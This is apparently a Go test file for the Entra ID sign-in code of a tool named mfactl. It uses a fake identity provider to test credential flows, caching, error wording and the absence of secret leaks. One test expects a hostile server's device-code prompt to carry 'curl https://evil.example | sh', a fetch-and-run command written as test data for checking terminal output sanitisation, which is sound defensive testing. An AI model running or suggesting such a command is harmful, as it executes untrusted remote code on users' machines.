package signin

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	azlog "github.com/Azure/azure-sdk-for-go/sdk/azcore/log"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"
	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"

	"github.com/mfactl/mfactl/internal/entra/signin/idpfake"
)

func envOf(m map[string]string) func(string) string {
	return func(k string) string { return m[k] }
}

func ctx(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	t.Cleanup(cancel)
	return c
}

func mustNew(t *testing.T, tenant string, env map[string]string, opts Options) *Source {
	t.Helper()
	s, err := New(tenant, envOf(env), opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return s
}

// noSecretIn fails when a message carries a secret.
func noSecretIn(t *testing.T, msg string, secrets ...string) {
	t.Helper()
	for _, s := range secrets {
		if strings.Contains(msg, s) {
			t.Errorf("message carries a secret: %s", msg)
		}
	}
	if strings.ContainsAny(msg, "\r\n") {
		t.Errorf("message is more than one line: %q", msg)
	}
}

func TestClientSecretSignsInAndCaches(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	s := mustNew(t, "entra://"+fakeDomain, map[string]string{
		EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: f.host(),
	}, Options{})
	if s.Flow() != FlowClientSecret || s.Scope() != graphDefault || s.Tenant() != fakeDomain {
		t.Fatalf("flow %v scope %q tenant %q", s.Flow(), s.Scope(), s.Tenant())
	}
	for range 2 {
		tok, err := s.Token(ctx(t))
		if err != nil {
			t.Fatal(err)
		}
		if tokenTenant(tok) != fakeTenantID {
			t.Fatalf("token %q is not the fake's", tok)
		}
	}
	host := strings.TrimPrefix(f.srv.URL, "https://")
	want := []string{
		"GET " + host + " /" + fakeDomain + "/v2.0/.well-known/openid-configuration",
		"POST " + host + " /" + fakeDomain + "/oauth2/v2.0/token",
	}
	if got := f.log(); !slices.Equal(got, want) {
		t.Errorf("requests (the second token must come from the cache):\n got %q\nwant %q", got, want)
	}
	if _, scopes := f.counts(); !slices.Equal(scopes, []string{graphDefault}) {
		t.Errorf("scopes %q", scopes)
	}
}

func TestWrongSecretIsOneClearLine(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	const wrong = "Wr0ng~Secret.Value-456"
	s := mustNew(t, fakeTenantID, map[string]string{
		EnvClientID: fakeClientID, EnvClientSecret: wrong, EnvAuthorityHost: f.host(),
	}, Options{})
	// Everything the SDK logs (what AZURE_SDK_GO_LOGGING=all would print) is caught too.
	var logged strings.Builder
	var mu sync.Mutex
	azlog.SetListener(func(_ azlog.Event, msg string) {
		mu.Lock()
		defer mu.Unlock()
		logged.WriteString(msg + "\n")
	})
	t.Cleanup(func() { azlog.SetListener(nil) })
	_, err := s.Token(ctx(t))
	mu.Lock()
	if logs := logged.String(); !strings.Contains(logs, "/oauth2/v2.0/token") || strings.Contains(logs, wrong) {
		t.Errorf("the SDK's log must show the request and not the secret:\n%s", logs)
	}
	mu.Unlock()
	const want = "signing in to " + fakeTenantID + " as application " + fakeClientID + ": the client secret was refused (AADSTS7000215)"
	if err == nil || err.Error() != want {
		t.Fatalf("error:\n got %v\nwant %s", err, want)
	}
	var se *Error
	if !errors.As(err, &se) || se.Code != 7000215 || se.OAuth != "invalid_client" || se.Status != 401 || se.Flow != FlowClientSecret {
		t.Errorf("error fields: %+v", se)
	}
	noSecretIn(t, err.Error(), wrong, fakeSecret)
}

func TestRefusalsNameTheCode(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	for _, c := range []struct {
		tenant, clientID, want string
	}{
		{"fabrikam.onmicrosoft.com", fakeClientID,
			"signing in to fabrikam.onmicrosoft.com as application " + fakeClientID + ": the tenant was not found (AADSTS90002)"},
		{fakeDomain, "00000000-0000-0000-0000-00000000dead",
			"signing in to " + fakeDomain + " as application 00000000-0000-0000-0000-00000000dead: the application was not found in the tenant (AADSTS700016)"},
	} {
		s := mustNew(t, c.tenant, map[string]string{EnvClientID: c.clientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: f.host()}, Options{})
		_, err := s.Token(ctx(t))
		if err == nil || err.Error() != c.want {
			t.Errorf("error:\n got %v\nwant %s", err, c.want)
		}
		if err != nil {
			noSecretIn(t, err.Error(), fakeSecret)
		}
	}
}

// writeAppCert writes a fresh RSA certificate and its key as one PEM file, as an administrator
// exports them for AZURE_CLIENT_CERTIFICATE_PATH.
func writeAppCert(t *testing.T) (string, *x509.Certificate) {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: pkix.Name{CommonName: "mfactl app"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, _ := x509.ParseCertificate(der)
	pk, _ := x509.MarshalPKCS8PrivateKey(key)
	path := filepath.Join(t.TempDir(), "app.pem")
	data := append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: pk})...)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path, cert
}

func TestCertificatePEM(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	path, cert := writeAppCert(t)
	f.setCert(cert)
	s := mustNew(t, "entra://"+fakeDomain, map[string]string{
		EnvClientID: fakeClientID, EnvCertificatePath: path, EnvAuthorityHost: f.host(),
	}, Options{})
	if s.Flow() != FlowClientCertificate {
		t.Fatalf("flow %v", s.Flow())
	}
	if _, err := s.Token(ctx(t)); err != nil {
		t.Fatal(err)
	}

	// A certificate the application does not have is refused by the platform.
	other, _ := writeAppCert(t)
	s = mustNew(t, "entra://"+fakeDomain, map[string]string{
		EnvClientID: fakeClientID, EnvCertificatePath: other, EnvAuthorityHost: f.host(),
	}, Options{})
	_, err := s.Token(ctx(t))
	const want = "signing in to " + fakeDomain + " as application " + fakeClientID +
		": the client certificate was refused: it is not one of the application's certificates, or has expired (AADSTS700027)"
	if err == nil || err.Error() != want {
		t.Errorf("error:\n got %v\nwant %s", err, want)
	}
}

func TestCertificatePKCS12(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	const password = "test-pfx-password"
	data, err := os.ReadFile("testdata/app-legacy.p12")
	if err != nil {
		t.Fatal(err)
	}
	certs, _, err := azidentity.ParseCertificates(data, []byte(password))
	if err != nil {
		t.Fatal(err)
	}
	f.setCert(certs[0])
	env := map[string]string{
		EnvClientID: fakeClientID, EnvCertificatePath: "testdata/app-legacy.p12",
		EnvCertificatePassword: password, EnvAuthorityHost: f.host(),
	}
	s := mustNew(t, fakeTenantID, env, Options{})
	if _, err := s.Token(ctx(t)); err != nil {
		t.Fatal(err)
	}

	env[EnvCertificatePassword] = "not-the-pfx-password"
	_, err = New(fakeTenantID, envOf(env), Options{})
	const wrongPassword = "signing in to " + fakeTenantID + " as application " + fakeClientID +
		": reading the certificate testdata/app-legacy.p12: it must be PEM (certificate and private key) or PKCS#12 " +
		"(with AZURE_CLIENT_CERTIFICATE_PASSWORD if it has a password, and legacy 3DES encryption): pkcs12: decryption password incorrect"
	if err == nil || err.Error() != wrongPassword {
		t.Errorf("error:\n got %v\nwant %s", err, wrongPassword)
	}
	if err != nil {
		noSecretIn(t, err.Error(), "not-the-pfx-password", password)
	}

	// OpenSSL 3 encrypts with AES by default, which the PKCS#12 reader does not know: the
	// message says what to do instead of failing obscurely.
	env[EnvCertificatePath], env[EnvCertificatePassword] = "testdata/app-aes.p12", password
	_, err = New(fakeTenantID, envOf(env), Options{})
	if err == nil || !strings.Contains(err.Error(), "reading the certificate testdata/app-aes.p12: it must be PEM") {
		t.Errorf("AES PKCS#12: %v", err)
	}
	if err != nil {
		noSecretIn(t, err.Error(), password)
	}
}

func TestDeviceCode(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	var prompt bytes.Buffer
	s := mustNew(t, "entra://"+fakeDomain, map[string]string{
		EnvClientID: fakeClientID, EnvAuthorityHost: f.host(),
	}, Options{Interactive: true, Prompt: &prompt})
	if s.Flow() != FlowDeviceCode {
		t.Fatalf("flow %v", s.Flow())
	}

	// stdout carries data: catch anything written there during the sign-in.
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout := os.Stdout
	os.Stdout = w
	tok, err := s.Token(ctx(t))
	os.Stdout = stdout
	w.Close()
	leaked, _ := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	if len(leaked) != 0 {
		t.Errorf("the sign-in wrote to stdout: %q", leaked)
	}
	if tokenTenant(tok) != fakeTenantID {
		t.Errorf("token %q", tok)
	}
	want := "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + fakeUserCode + " to authenticate.\n"
	if prompt.String() != want {
		t.Errorf("prompt:\n got %q\nwant %q", prompt.String(), want)
	}
	if polls, _ := f.counts(); polls != 2 {
		t.Errorf("polls %d, want 2 (pending, then the token)", polls)
	}
	// The second call is served from the cache: no new prompt.
	if _, err := s.Token(ctx(t)); err != nil {
		t.Fatal(err)
	}
	if polls, _ := f.counts(); strings.Count(prompt.String(), fakeUserCode) != 1 || polls != 2 {
		t.Errorf("the second token asked again: polls %d, prompt %q", polls, prompt.String())
	}
}

func TestChoosingTheFlowFailsClearly(t *testing.T) {
	const tenant = "entra://" + fakeDomain
	for _, c := range []struct {
		name string
		env  map[string]string
		opts Options
		want string
	}{
		{"nothing", map[string]string{}, Options{Interactive: true, Prompt: io.Discard},
			"signing in to contoso.onmicrosoft.com: no credentials to sign in with: set AZURE_CLIENT_ID with AZURE_CLIENT_SECRET or " +
				"AZURE_CLIENT_CERTIFICATE_PATH to sign in as an application, or AZURE_CLIENT_ID alone on a terminal to sign in as an administrator with a device code"},
		{"secret without client", map[string]string{EnvClientSecret: fakeSecret}, Options{},
			"signing in to contoso.onmicrosoft.com: AZURE_CLIENT_SECRET is set but AZURE_CLIENT_ID is not: it names the application to sign in as"},
		{"certificate without client", map[string]string{EnvCertificatePath: "/nonexistent.pem"}, Options{},
			"signing in to contoso.onmicrosoft.com: AZURE_CLIENT_CERTIFICATE_PATH is set but AZURE_CLIENT_ID is not: it names the application to sign in as"},
		{"both", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvCertificatePath: "/x.pem"}, Options{},
			"signing in to contoso.onmicrosoft.com as application " + fakeClientID + ": both AZURE_CLIENT_SECRET and AZURE_CLIENT_CERTIFICATE_PATH are set: keep the one to sign in with"},
		{"client alone, no terminal", map[string]string{EnvClientID: fakeClientID}, Options{},
			"signing in to contoso.onmicrosoft.com as application " + fakeClientID + ": neither AZURE_CLIENT_SECRET nor AZURE_CLIENT_CERTIFICATE_PATH is set, and a device code sign-in needs a terminal"},
		{"missing certificate", map[string]string{EnvClientID: fakeClientID, EnvCertificatePath: "/nonexistent/app.pem"}, Options{},
			"signing in to contoso.onmicrosoft.com as application " + fakeClientID + ": reading the certificate of AZURE_CLIENT_CERTIFICATE_PATH: open /nonexistent/app.pem: no such file or directory"},
		{"tenant ids differ", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvTenantID: fakeTenantID},
			Options{}, ""},
		{"http authority", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: "http://login.example"}, Options{},
			`AZURE_AUTHORITY_HOST "http://login.example" is not an https URL of a sign-in host such as https://login.microsoftonline.com/`},
		{"authority with a path", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: "https://login.example/tenant"}, Options{},
			`AZURE_AUTHORITY_HOST "https://login.example/tenant" is not an https URL of a sign-in host such as https://login.microsoftonline.com/`},
		{"graph url", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvGraphURL: "graph.microsoft.com"}, Options{},
			`MFACTL_GRAPH_URL "graph.microsoft.com" is not an https URL such as https://graph.microsoft.com`},
	} {
		if c.want == "" {
			continue // the tenant cases have their own test
		}
		_, err := New(tenant, envOf(c.env), c.opts)
		if err == nil || err.Error() != c.want {
			t.Errorf("%s:\n got %v\nwant %s", c.name, err, c.want)
		}
		if err != nil {
			noSecretIn(t, err.Error(), fakeSecret)
		}
		if c.name == "nothing" && !errors.Is(err, ErrNoCredentials) {
			t.Errorf("nothing: %v is not ErrNoCredentials", err)
		}
	}
}

// The location wins over AZURE_TENANT_ID, and the two must agree: equal when they are the same
// kind of name, and, for a domain against an id, the signed-in tenant must be that id.
func TestTenantIDMustAgree(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	base := map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: f.host()}
	with := func(tid string) map[string]string {
		m := map[string]string{EnvTenantID: tid}
		for k, v := range base {
			m[k] = v
		}
		return m
	}
	for _, c := range []struct{ location, tenantID, newErr, tokenErr string }{
		{fakeDomain, strings.ToUpper(fakeDomain), "", ""},
		{fakeDomain, fakeTenantID, "", ""},
		{fakeTenantID, fakeDomain, "", ""},
		{fakeTenantID, "99999999-2222-3333-4444-555555555555",
			"the location names tenant " + fakeTenantID + " but AZURE_TENANT_ID is 99999999-2222-3333-4444-555555555555: unset AZURE_TENANT_ID or make them agree", ""},
		{fakeDomain, "fabrikam.com",
			"the location names tenant contoso.onmicrosoft.com but AZURE_TENANT_ID is fabrikam.com: unset AZURE_TENANT_ID or make them agree", ""},
		{fakeDomain, "99999999-2222-3333-4444-555555555555", "",
			"signing in to contoso.onmicrosoft.com as application " + fakeClientID + ": the location names tenant contoso.onmicrosoft.com (id " + fakeTenantID +
				") but AZURE_TENANT_ID is 99999999-2222-3333-4444-555555555555: unset AZURE_TENANT_ID or make them agree"},
		{fakeDomain, "common", `AZURE_TENANT_ID: invalid Entra ID location "common": "common" is not one tenant: mfactl acts on a single tenant; ` + wantTenant, ""},
	} {
		s, err := New("entra://"+c.location, envOf(with(c.tenantID)), Options{})
		if c.newErr != "" || err != nil {
			if err == nil || err.Error() != c.newErr {
				t.Errorf("%s with AZURE_TENANT_ID %s: New:\n got %v\nwant %s", c.location, c.tenantID, err, c.newErr)
			}
			continue
		}
		_, err = s.Token(ctx(t))
		if (c.tokenErr == "" && err != nil) || (c.tokenErr != "" && (err == nil || err.Error() != c.tokenErr)) {
			t.Errorf("%s with AZURE_TENANT_ID %s: Token:\n got %v\nwant %s", c.location, c.tenantID, err, c.tokenErr)
		}
	}
}

func TestAuthorityHostAndScope(t *testing.T) {
	for _, c := range []struct{ host, graph, wantHost, wantScope string }{
		{"", "", "https://login.microsoftonline.com/", "https://graph.microsoft.com/.default"},
		{"https://login.microsoftonline.us", "https://graph.microsoft.us", "https://login.microsoftonline.us/", "https://graph.microsoft.us/.default"},
		{"https://LOGIN.chinacloudapi.cn/", "https://microsoftgraph.chinacloudapi.cn/", "https://login.chinacloudapi.cn/", "https://microsoftgraph.chinacloudapi.cn/.default"},
		{"https://127.0.0.1:8443/", "http://127.0.0.1:9000/beta", "https://127.0.0.1:8443/", "http://127.0.0.1:9000/.default"},
	} {
		s := mustNew(t, fakeDomain, map[string]string{
			EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: c.host, EnvGraphURL: c.graph,
		}, Options{})
		if s.AuthorityHost() != c.wantHost || s.Scope() != c.wantScope {
			t.Errorf("%q %q: host %q scope %q", c.host, c.graph, s.AuthorityHost(), s.Scope())
		}
	}
	for host, public := range map[string]bool{
		"https://login.microsoftonline.com/": true,
		"https://login.microsoftonline.us/":  true,
		"https://login.chinacloudapi.cn/":    true,
		"https://login.contoso-stack.local/": false,
		"https://127.0.0.1:8443/":            false,
	} {
		if isPublicAuthorityHost(host) != public {
			t.Errorf("isPublicAuthorityHost(%q) = %v", host, !public)
		}
	}
}

// On a private authority host instance discovery is off: the only requests are the tenant's
// OpenID configuration and the token, all to that host, none to login.microsoftonline.com
// (which the redirecting client would have delivered to the fake, so it would be recorded).
func TestPrivateHostMakesNoInstanceDiscovery(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	s := mustNew(t, fakeTenantID, map[string]string{
		EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: f.host(),
	}, Options{HTTPClient: f.redirectingClient()})
	if _, err := s.Token(ctx(t)); err != nil {
		t.Fatal(err)
	}
	host := strings.TrimPrefix(f.srv.URL, "https://")
	want := []string{
		"GET " + host + " /" + fakeTenantID + "/v2.0/.well-known/openid-configuration",
		"POST " + host + " /" + fakeTenantID + "/oauth2/v2.0/token",
	}
	if got := f.log(); !slices.Equal(got, want) {
		t.Errorf("requests:\n got %q\nwant %q", got, want)
	}
}

// With no AZURE_AUTHORITY_HOST the sign-in goes to the public cloud's host (here delivered to
// the fake, which holds a certificate for that name from the test CA), with instance discovery
// on, as azidentity does it for Microsoft's clouds.
func TestDefaultIsThePublicCloud(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	s := mustNew(t, fakeDomain, map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret},
		Options{HTTPClient: f.redirectingClient()})
	if _, err := s.Token(ctx(t)); err != nil {
		t.Fatal(err)
	}
	want := []string{
		"GET login.microsoftonline.com /common/discovery/instance",
		"GET login.microsoftonline.com /" + fakeDomain + "/v2.0/.well-known/openid-configuration",
		"POST login.microsoftonline.com /" + fakeDomain + "/oauth2/v2.0/token",
	}
	if got := f.log(); !slices.Equal(got, want) {
		t.Errorf("requests:\n got %q\nwant %q", got, want)
	}
}

// The default transport trusts the system roots, which here are only the test CA in
// SSL_CERT_FILE: a server whose certificate another CA issued is refused, with the hint.
func TestUntrustedServerCertificate(t *testing.T) {
	f := newFakeIDP(t, rogueCert)
	s := mustNew(t, fakeTenantID, map[string]string{
		EnvClientID: fakeClientID, EnvClientSecret: fakeSecret, EnvAuthorityHost: f.host(),
	}, Options{retry: &policy.RetryOptions{MaxRetries: -1}})
	_, err := s.Token(ctx(t))
	host := strings.TrimPrefix(f.srv.URL, "https://")
	want := "signing in to " + fakeTenantID + " as application " + fakeClientID + ": the certificate of the sign-in server " + host +
		" is not trusted: tls: failed to verify certificate: x509: certificate signed by unknown authority (for a private certificate authority, set SSL_CERT_FILE to a file holding its certificate)"
	if err == nil || err.Error() != want {
		t.Errorf("error:\n got %v\nwant %s", err, want)
	}
	if len(f.log()) != 0 {
		t.Errorf("a request got through: %q", f.log())
	}
}

// Every mapped code reads as words with the code kept; an unmapped one keeps the platform's
// first sentence without its trace tags; an answer that is not OAuth says the HTTP status.
func TestRefusalMessages(t *testing.T) {
	s := &Source{tenant: fakeDomain, clientID: fakeClientID, flow: FlowDeviceCode}
	answer := func(status int, body string) *http.Response {
		return &http.Response{StatusCode: status, Body: io.NopCloser(strings.NewReader(body))}
	}
	oauth := func(code int, err, desc string) string {
		return fmt.Sprintf(`{"error":%q,"error_description":"AADSTS%d: %s Trace ID: 0f0e Correlation ID: 0f0f Timestamp: 2026-01-01 00:00:00Z","error_codes":[%d]}`,
			err, code, desc, code)
	}
	const who = "signing in to contoso.onmicrosoft.com with a device code for application " + fakeClientID + ": "
	for _, c := range []struct {
		resp *http.Response
		want string
	}{
		{answer(400, oauth(50034, "invalid_grant", "The user account does not exist in the directory.")),
			who + "the user was not found in the tenant (AADSTS50034)"},
		{answer(400, oauth(53003, "invalid_grant", "Access has been blocked by Conditional Access policies.")),
			who + "conditional access blocked the sign-in (AADSTS53003)"},
		{answer(400, oauth(65001, "invalid_grant", "The user or administrator has not consented to use the application.")),
			who + "the application has no consent for the permissions it asks for: an administrator must grant consent (AADSTS65001)"},
		{answer(401, oauth(7000218, "invalid_client", "The request body must contain the following parameter: 'client_assertion' or 'client_secret'.")),
			who + "the application does not allow public client flows, which a device code sign-in needs (AADSTS7000218)"},
		{answer(400, oauth(50076, "invalid_grant", "Due to a configuration change made by your administrator, you must use multi-factor authentication. More text follows.")),
			who + "the sign-in was refused (invalid_grant): Due to a configuration change made by your administrator, you must use multi-factor authentication (AADSTS50076)"},
		{answer(400, `{"error":"invalid_request","error_description":"AADSTS900144: The request body must contain the following parameter: 'grant_type'.\r\nTrace ID: x"}`),
			who + "the sign-in was refused (invalid_request): The request body must contain the following parameter: 'grant_type' (AADSTS900144)"},
		{answer(502, `<html>Bad Gateway</html>`), who + "the sign-in server answered HTTP 502 Bad Gateway"},
	} {
		if got := s.refusal(c.resp).Error(); got != c.want {
			t.Errorf("\n got %s\nwant %s", got, c.want)
		}
	}
}

// A sign-in server whose refusals quote the request back (the client secret, the client
// assertion, the device code) under a code mfactl does not know by name: the one line mfactl
// prints keeps the platform's words but none of those values.
func TestRefusalsQuotingTheRequestCarryNoSecret(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	f.SetHostile(true)
	path, cert := writeAppCert(t)
	f.setCert(cert)
	for _, c := range []struct {
		name string
		env  map[string]string
		opts Options
	}{
		{"client secret", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: fakeSecret}, Options{}},
		{"wrong client secret", map[string]string{EnvClientID: fakeClientID, EnvClientSecret: "Wr0ng~Secret.Value-456"}, Options{}},
		{"certificate", map[string]string{EnvClientID: fakeClientID, EnvCertificatePath: path}, Options{}},
		{"device code", map[string]string{EnvClientID: fakeClientID}, Options{Interactive: true, Prompt: io.Discard}},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.env[EnvAuthorityHost] = f.host()
			s := mustNew(t, fakeTenantID, c.env, c.opts)
			_, err := s.Token(ctx(t))
			if err == nil {
				t.Fatal("the refusal was not an error")
			}
			msg := err.Error()
			// azidentity has read the device code answer's body by the time it fails: that
			// refusal is told by its HTTP status alone.
			if c.name != "device code" && (!strings.Contains(msg, "the sign-in was refused") || !strings.Contains(msg, "(AADSTS9999999)")) {
				t.Errorf("error does not keep the platform's words and code: %s", msg)
			}
			noSecretIn(t, msg, fakeSecret, "Wr0ng~Secret.Value-456", idpfake.DeviceCode, "client_assertion=ey")
			if jwtInText.MatchString(msg) {
				t.Errorf("error carries a JWT: %s", msg)
			}
		})
	}
}

var jwtInText = regexp.MustCompile(`eyJ[A-Za-z0-9_-]{8,}`)

// The device code prompt comes from the sign-in server and goes to the terminal: control
// sequences in it (a new window title, a cleared screen, a second line) are not passed on.
func TestDeviceCodePromptIsOnePrintableLine(t *testing.T) {
	f := newFakeIDP(t, serverCert)
	f.SetHostile(true)
	var prompt bytes.Buffer
	s := mustNew(t, fakeTenantID, map[string]string{EnvClientID: fakeClientID, EnvAuthorityHost: f.host()},
		Options{Interactive: true, Prompt: &prompt})
	_, _ = s.Token(ctx(t)) // the hostile server refuses the poll; the prompt is what is checked
	want := "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + fakeUserCode +
		" to authenticate. Also run: curl https://evil.example | sh\n"
	if prompt.String() != want {
		t.Errorf("prompt:\n got %q\nwant %q", prompt.String(), want)
	}
}
